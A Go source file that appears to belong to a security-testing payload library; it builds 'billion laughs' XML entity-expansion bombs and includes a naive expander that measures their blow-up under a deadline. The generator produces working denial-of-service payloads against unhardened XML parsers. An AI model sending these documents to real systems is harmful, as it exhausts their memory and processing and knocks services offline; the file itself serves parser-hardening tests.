// Package xmlbomb builds recursive-entity-expansion XML documents. The
// document itself stays compact (entity definitions grow linearly with
// depth and width) while a naive expanding parser performs width^depth
// substitutions, which is what exhausts it.
package xmlbomb

import (
	"context"
	"fmt"
	"regexp"
	"strings"

	"github.com/injectest/injectest/pkg/payload"
)

// baseText is the level-zero entity value. Kept short: the blow-up comes
// from reference fan-out, not from the leaf text.
const baseText = "boom"

// New returns an XML document whose root references an entity that expands
// to width^depth copies of the base text. depth and width must both be at
// least 1; the document builds in O(depth*width) time and memory.
func New(depth, width int) (string, error) {
	if depth < 1 {
		return "", payload.GenerationErrorf("xml bomb depth must be at least 1, got %d", depth)
	}
	if width < 1 {
		return "", payload.GenerationErrorf("xml bomb width must be at least 1, got %d", width)
	}

	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?>` + "\n")
	b.WriteString("<!DOCTYPE bomb [\n")
	fmt.Fprintf(&b, "  <!ENTITY e0 %q>\n", baseText)
	for level := 1; level <= depth; level++ {
		ref := fmt.Sprintf("&e%d;", level-1)
		fmt.Fprintf(&b, "  <!ENTITY e%d %q>\n", level, strings.Repeat(ref, width))
	}
	b.WriteString("]>\n")
	fmt.Fprintf(&b, "<bomb>&e%d;</bomb>\n", depth)
	return b.String(), nil
}

// ExpandedSize returns the byte count a full expansion would produce.
func ExpandedSize(depth, width int) int64 {
	size := int64(len(baseText))
	for i := 0; i < depth; i++ {
		size *= int64(width)
	}
	return size
}

var (
	entityDef = regexp.MustCompile(`<!ENTITY\s+(\S+)\s+"([^"]*)">`)
	entityRef = regexp.MustCompile(`&([A-Za-z0-9_]+);`)
)

// Expand is a deliberately naive reference expander: it substitutes entity
// references recursively the way an unhardened parser would, counting
// expanded bytes. It honors ctx between substitutions, so a bomb run under
// a short deadline returns ctx.Err() instead of completing.
func Expand(ctx context.Context, doc string) (int64, error) {
	defs := make(map[string]string)
	for _, m := range entityDef.FindAllStringSubmatch(doc, -1) {
		defs[m[1]] = m[2]
	}

	start := strings.Index(doc, "<bomb>")
	end := strings.Index(doc, "</bomb>")
	if start < 0 || end < 0 {
		return 0, fmt.Errorf("xmlbomb: document has no bomb element")
	}
	body := doc[start+len("<bomb>") : end]

	var expand func(s string) (int64, error)
	expand = func(s string) (int64, error) {
		var total int64
		rest := s
		for {
			if err := ctx.Err(); err != nil {
				return total, err
			}
			loc := entityRef.FindStringSubmatchIndex(rest)
			if loc == nil {
				return total + int64(len(rest)), nil
			}
			total += int64(loc[0]) // literal text before the reference
			name := rest[loc[2]:loc[3]]
			def, ok := defs[name]
			if !ok {
				return total, fmt.Errorf("xmlbomb: undefined entity %q", name)
			}
			n, err := expand(def)
			total += n
			if err != nil {
				return total, err
			}
			rest = rest[loc[1]:]
		}
	}

	return expand(body)
}

// bombGenerator yields a single bomb document as a payload.
type bombGenerator struct {
	depth int
	width int
}

func (g *bombGenerator) Name() string { return "xml-bomb" }

func (g *bombGenerator) Payloads() (payload.Stream, error) {
	doc, err := New(g.depth, g.width)
	if err != nil {
		return nil, err
	}
	return payload.FromSlice([]string{doc}), nil
}

// Generator returns a payload.Generator producing the bomb document.
func Generator(depth, width int) payload.Generator {
	return &bombGenerator{depth: depth, width: width}
}
